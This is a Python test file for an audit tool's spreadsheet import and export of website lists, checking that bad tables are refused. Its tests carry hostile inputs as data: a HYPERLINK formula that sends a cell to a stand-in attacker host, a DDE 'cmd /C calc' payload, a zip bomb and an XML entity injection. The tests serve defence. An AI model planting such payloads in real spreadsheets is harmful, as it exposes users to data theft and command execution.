"""Sites as a table, there and back; and tables of strangers."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from audits.cli import run
from audits.desk.reading import opened
from audits.desk.site_columns import HEADINGS
from audits.desk.site_import import merged
from audits.desk.site_table import write_table
from audits.refused import RefusedError
from rules.problems import RuleErrors
from tests.audits.desk.desks import at

NOW = at("2026-11-22 10:00")
HAND = """\
# 手写的，注释要留着
schedule: 每月1日 02:00
sites:
  - {id: hand, name: 手写县, url: http://www.hand.test/, recipients: [x@hand.test]}
"""
LISTED = """\
sites:
- id: a
  name: 甲县
  url: http://www.a.test/
  pack: base, huantai-2021
  connect_to: ["www.a.test:80:127.0.0.1:8080"]
  schedule: 手动
  units: {县教育局: {contacts: [edu@a.test, b@a.test]}, 县政府办公室: {contacts: [o@a.test]}}
"""


@pytest.fixture
def desk(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GONGKAI_CONFIG", raising=False)
    (tmp_path / "gongkai.yaml").write_text(HAND, encoding="utf-8")
    (tmp_path / "sites.yaml").write_text(LISTED, encoding="utf-8")
    return lambda: opened(tmp_path / "gongkai.yaml")


def csv_file(tmp_path, *lines, encoding="utf-8-sig"):
    file = tmp_path / "t.csv"
    file.write_text("\r\n".join(lines) + "\r\n", encoding=encoding)
    return file


def xlsx_file(tmp_path, *rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(tmp_path / "t.xlsx")
    return tmp_path / "t.xlsx"


def refused(desk, file):
    with pytest.raises(RuleErrors) as caught:
        merged(desk(), file)
    return [str(one).removeprefix(f"{file}:") for one in caught.value.problems]


@pytest.mark.parametrize("name", ["t.xlsx", "t.csv"])
def test_what_is_exported_comes_back_and_changes_nothing(tmp_path, desk, name):
    file = write_table(desk().sites, tmp_path / name, NOW)
    found = merged(desk(), file)
    assert [(change.site, change.what) for change in found.changes] == [
        ("hand", "不变"),
        ("a", "不变"),
    ]
    assert not found.different
    assert (
        write_table(desk().sites, tmp_path / f"again-{name}", NOW).read_bytes() == file.read_bytes()
    )


def test_an_import_shows_what_changes_and_writes_on_yes(tmp_path, desk, capsys):
    file = xlsx_file(
        tmp_path,
        ["网站名单"],
        ["编号", " 名称", "网址", "请求间隔(秒)", "自动检查", "责任单位"],
        [
            "a",
            "甲县人民政府",
            "http://www.a.test/",
            2.0,
            None,
            "县教育局：edu@a.test；县卫健局:h@a.test",
        ],
        [None, None, None],
        ["new", "新县", "www.new.test", None, "每周一 06:30", None],
        ["hand", "手写县", "http://www.hand.test/", None, None, None],
    )
    assert run(["sites", "import", str(file)]) == 0
    said = capsys.readouterr().out
    assert "修改 a（甲县人民政府）" in said
    assert "名称：甲县 → 甲县人民政府" in said
    assert "自动检查：手动 → （空）" in said
    assert "新增 new（新县）" in said
    assert "新增 1 个，修改 1 个，不变 1 个。" in said
    assert "加 --yes" in said
    assert (tmp_path / "sites.yaml").read_text(encoding="utf-8") == LISTED
    assert run(["sites", "import", str(file), "--yes"]) == 0
    a, new = desk().site("a"), desk().site("new")
    assert (a.name, a.choices.delay, a.schedule.text) == ("甲县人民政府", 2.0, "每月1日 02:00")
    assert [unit.name for unit in a.units] == ["县教育局", "县卫健局"]
    assert a.choices.pack == ["base", "huantai-2021"], "no column, no change"
    assert a.choices.connect_to == ["www.a.test:80:127.0.0.1:8080"]
    assert (new.home, new.schedule.text) == ("http://www.new.test/", "每周一 06:30")
    assert (tmp_path / "gongkai.yaml").read_text(encoding="utf-8") == HAND
    assert (tmp_path / "sites.yaml.bak").read_text(encoding="utf-8") == LISTED
    assert run(["sites", "import", str(file), "--yes"]) == 0
    assert "没有要写入的" in capsys.readouterr().out
    assert run(["sites", "list"]) == 0
    listed = capsys.readouterr().out
    assert "gongkai.yaml:4" in listed
    assert "共 3 个网站。" in listed


def test_from_nothing_to_a_configured_site(tmp_path, desk, capsys):
    (tmp_path / "sites.yaml").unlink()
    (tmp_path / "gongkai.yaml").write_text("", encoding="utf-8")
    assert run(["sites", "export", "网站.xlsx"]) == 0
    book = openpyxl.load_workbook(tmp_path / "网站.xlsx")
    assert book.sheetnames == ["网站", "填写说明"]
    assert [cell.value for cell in book["网站"][1]] == list(HEADINGS)
    book["网站"].append(["a", "甲县", "http://www.a.test/", "huantai-2021"])
    book.save(tmp_path / "网站.xlsx")
    assert run(["sites", "import", "网站.xlsx", "--yes"]) == 0
    assert desk().site("a").choices.pack == ["huantai-2021"]
    assert run(["sites", "export", "网站.doc"]) == 2
    assert ".xlsx 或 .csv" in capsys.readouterr().err


def test_gbk_as_excel_saves_it(tmp_path, desk):
    file = csv_file(tmp_path, "编号,名称,网址", "b,乙县,www.b.test", encoding="gb18030")
    assert [change.name for change in merged(desk(), file).changes] == ["乙县"]


def test_all_that_is_wrong_is_told_by_row_and_column(tmp_path, desk):
    file = csv_file(
        tmp_path,
        "编号,名称,网址,请求间隔（秒）,自动检查,报告收件人,责任单位",
        "A,甲,http://www.a.test/,,,,",
        "b,,http://www.b.test/,,,,",
        "c,丙,ftp://c,-1,有空时,x@,没有冒号",
        "d,丁,http://d.test/,,,,局：不是地址",
        "d,丁,http://d.test/,,,,",
        "hand,改名,http://www.hand.test/,,,x@hand.test,",
    )
    told = refused(desk, file)
    for line, words in [
        ("2", "“编号”"),
        ("3", "缺少“名称”"),
        ("4", "“网址”"),
        ("4", "“请求间隔（秒）”"),
        ("4", "看不懂计划"),
        ("4", "不是邮件地址"),
        ("4", "没有写成“单位：邮件地址”"),
        ("5", "不是邮件地址"),
        ("6", "与第 5 行重复"),
        ("7", "gongkai.yaml:4，那里是“手写县”，表里是“改名”"),
    ]:
        assert any(one.startswith(f"{line}:") and words in one for one in told), (line, words, told)
    assert len(told) == 10


def test_formulas_are_refused_not_computed(tmp_path, desk):
    evil = '=HYPERLINK("http://evil.test/?"&A1)'
    row = ["b", evil, "http://www.b.test/"]
    assert (
        "3: “名称”列：是公式"
        in refused(desk, xlsx_file(tmp_path, ["x"], list(HEADINGS[:3]), row))[0]
    )
    for text in ("=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)"):
        file = csv_file(tmp_path, "编号,名称,网址", f'b,"{text}",http://www.b.test/')
        assert "2: “名称”列：是公式" in refused(desk, file)[0]
    file = csv_file(tmp_path, "编号,名称,网址", "b,'=甲县,http://www.b.test/")
    assert merged(desk(), file).changes[-1].name == "=甲县"
    exported = write_table(
        [site for site in desk().sites if site.id == "a"], tmp_path / "safe.csv", NOW
    )
    assert b'"=' not in exported.read_bytes()


def test_strange_columns_and_hidden_characters_are_named(tmp_path, desk):
    file = csv_file(tmp_path, "编号,名称,网址,电话,名称", "b,乙,http://www.b.test/,1,x")
    assert [one.split("；")[0] for one in refused(desk, file)] == [
        "1: “名称”列有两个",
        "1: 不认识的列“电话”",
    ]
    file = csv_file(tmp_path, "编号,名称,网址", "b,乙\u202e县,http://www.b.test/")
    assert "2: “名称”列：含有看不见的字符 U+202E" in refused(desk, file)[0]


def bomb(tmp_path):
    file = tmp_path / "t.xlsx"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("xl/worksheets/sheet1.xml", b" " * 25_000_000)
    return file


def entities(tmp_path):
    file = xlsx_file(tmp_path, list(HEADINGS[:3]))
    out = io.BytesIO()
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(out, "w") as made:
        for name in source.namelist():
            data = source.read(name)
            if name.endswith("sheet1.xml"):
                data = b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + data
            made.writestr(name, data)
    file.write_bytes(out.getvalue())
    return file


def entities_elsewhere(tmp_path):
    """The sheet stands in a part that is called otherwise: what refers to it decides how it is read."""
    file = entities(tmp_path)
    out = io.BytesIO()
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(out, "w") as made:
        for name in source.namelist():
            data = source.read(name).replace(b"sheet1.xml", b"sheet1.bin")
            made.writestr(name.replace("sheet1.xml", "sheet1.bin"), data)
    file.write_bytes(out.getvalue())
    return file


def raw(data, name="t.xlsx"):
    def make(tmp_path):
        (tmp_path / name).write_bytes(data)
        return tmp_path / name

    return make


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (bomb, "太大"),
        (entities, "内容异常"),
        (entities_elsewhere, "内容异常"),
        (raw(b"PK\x03\x04 not a zip"), "不是完整的 Excel"),
        (raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "旧格式"),
        (raw(b""), "没有找到表头"),
        (raw(b"\x89PNG\0\0", "t.csv"), "不是"),
        (raw(b'a,"b\r\n', "t.csv"), "引号没有配对"),
        (raw(b"x" * 5_000_001, "t.csv"), "超过 5 MB"),
        (raw(b"a\n" * 6_000, "t.csv"), "超过 5000 行"),
        (raw("编号,名称\na,b\n".encode(), "t.csv"), "网址"),
        (lambda folder: folder / "none.xlsx", "读不到"),
        (lambda folder: folder, "读不到"),
    ],
    ids=[
        "bomb",
        "entities",
        "entities elsewhere",
        "torn",
        "xls",
        "empty",
        "png",
        "quote",
        "big",
        "long",
        "column",
        "none",
        "folder",
    ],
)
def test_what_is_no_table_is_refused(tmp_path, desk, make, words):
    with pytest.raises(RefusedError, match=words):
        merged(desk(), make(tmp_path))


def test_a_table_without_rows(tmp_path, desk):
    assert "没有网站" in refused(desk, csv_file(tmp_path, "编号,名称,网址"))[0]


TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cf", "Co")),
    min_size=1,
    max_size=20,
)


@given(name=TEXT, unit=TEXT, kind=st.sampled_from(["x.csv", "x.xlsx"]))
@settings(max_examples=12)
def test_any_name_comes_back_as_it_was_or_is_refused(tmp_path_factory, name, unit, kind):
    folder = tmp_path_factory.mktemp("t")
    (folder / "gongkai.yaml").write_text("", encoding="utf-8")
    table = [[*HEADINGS[:3], "责任单位"], ["a", name, "http://a.test/", f"{unit}：x@a.test"]]
    book = openpyxl.Workbook()
    for line, row in enumerate(table, 1):
        for column, text in enumerate(row, 1):
            book.active.cell(line, column).value = text
            book.active.cell(line, column).data_type = "s"
    book.save(folder / "t.xlsx")
    try:
        first = merged(opened(folder / "gongkai.yaml"), folder / "t.xlsx")
    except RuleErrors:
        return
    (folder / "sites.yaml").write_text(first.text, encoding="utf-8")
    desk = opened(folder / "gongkai.yaml")
    again = merged(desk, write_table(desk.sites, folder / kind, NOW))
    assert [change.what for change in again.changes] == ["不变"]
